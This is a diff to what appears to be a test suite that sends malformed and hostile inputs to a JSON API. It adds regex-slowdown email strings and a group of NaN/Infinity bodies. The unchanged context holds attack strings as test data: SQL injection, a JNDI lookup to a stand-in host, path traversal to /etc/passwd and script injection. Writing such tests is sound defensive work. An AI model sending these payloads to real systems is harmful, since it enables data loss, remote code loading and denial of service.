@@ -21,6 +21,10 @@ HOSTILE_STRINGS = (
     "'; DROP TABLE sessions; --", "${jndi:ldap://rampcheck.example/x}", "{{7*7}}", "../../../etc/passwd",
     "<script>alert(1)</script>", "%s%n%x", "x" * 10_000, "9" * 400, "1e400", "-0", "a" * 255 + "@example.com",
 )
+# Backtracking pattern matchers take a time for these that doubles, or squares, with their length.
+SLOW_EMAILS = (
+    "a" * 60 + "!", "user@" + "a." * 60 + "!", "a@" + "-" * 5_000 + "!", "user" + " " * 5_000 + "@example.com",
+)
 NEST = 20_000
 
 
@@ -91,7 +95,15 @@ def not_json(body: bytes) -> dict[str, bytes]:
         "an empty body": b"", "JSON without its last byte": body[:-1],
         "JSON with a trailing comma": body[:-1] + b",}", "JSON in single quotes": body.replace(b'"', b"'"),
         "JSON followed by a word": body + b" and", "JSON followed by JSON": body + b"{}",
-        "JSON with a NaN": body[:-1] + b',"note":NaN}', "a form": b"amount=100&network=none",
+        "a form": b"amount=100&network=none",
+    }
+
+
+def perhaps_json(body: bytes) -> dict[str, bytes]:
+    """Gives bodies that are no JSON but for parsers that take more (RFC 8259 section 9), made of a JSON object."""
+    return {
+        "JSON with a NaN": body[:-1] + b',"note":NaN}',
+        "JSON with an Infinity": body[:-1] + b',"note":-Infinity}',
     }
 
 
